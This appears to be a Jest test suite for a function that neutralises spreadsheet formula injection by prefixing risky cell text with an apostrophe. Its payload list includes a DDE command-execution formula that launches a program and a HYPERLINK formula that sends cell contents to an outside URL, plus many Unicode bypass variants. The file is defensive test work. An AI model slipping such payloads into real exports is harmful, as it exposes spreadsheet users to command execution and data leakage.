/** Which texts a spreadsheet would run, and what becomes of them. */
import { describe, expect, it } from '@jest/globals';
import { isFormulaLike, toSpreadsheetText } from '../../src/tables/defuse.js';

const PAYLOADS = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1,1)',
  '-5',
  '+90 532 000 00 00',
  '=HYPERLINK("https://example.com/?"&A1,"Click")',
  "=cmd|' /C calc'!A0",
  '@import',
  ' =1+1',
  '   \u00A0=1+1',
  '\u3000=1+1',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\r\n \t=1+1',
  '\0=1+1',
  '\u0001\u001F=1+1',
  '\uFEFF=1+1',
  '\u200B=1+1',
  '\u202E=1+1',
  '\u00AD-1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  ' ＝1+1',
  '﹦1',
  '﹢1',
  '﹣1',
  '﹫SUM(1)',
  '\ttext',
  '\rtext',
  '\ntext',
  '\0text',
  '=',
];

const HARMLESS = [
  '',
  'Ayşe Çağlar',
  'a=b',
  'a\n=1',
  'x@example.com',
  '1-2',
  "'=1",
  '(=1)',
  '"=1"',
  ' leading blank',
  '2026-01-02T03:04:05.000Z',
  '–5 (an en dash)',
  '😀=1',
];

describe('a text in a cell', () => {
  it.each(PAYLOADS)('%j gets an apostrophe', (text) => {
    expect(isFormulaLike(text)).toBe(true);
    expect(toSpreadsheetText(text).startsWith("'")).toBe(true);
    expect(isFormulaLike(toSpreadsheetText(text))).toBe(false);
  });

  it.each(HARMLESS)('%j stays as it is', (text) => {
    expect(toSpreadsheetText(text)).toBe(text);
  });

  it('shows U+FFFD where XML has no place for a character, and keeps tabs, line breaks and everything else', () => {
    expect(toSpreadsheetText('a\0b\u0008c\u000Bd\u001Fe\uFFFEf\uFFFFg')).toBe('a�b�c�d�e�f�g');
    expect(toSpreadsheetText('a\tb\nc\rd\u0085e\u{1F600}')).toBe('a\tb\nc\rd\u0085e\u{1F600}');
  });

  it('is looked at before such characters are replaced', () => {
    expect(toSpreadsheetText('\0=1')).toBe("'�=1");
  });
});
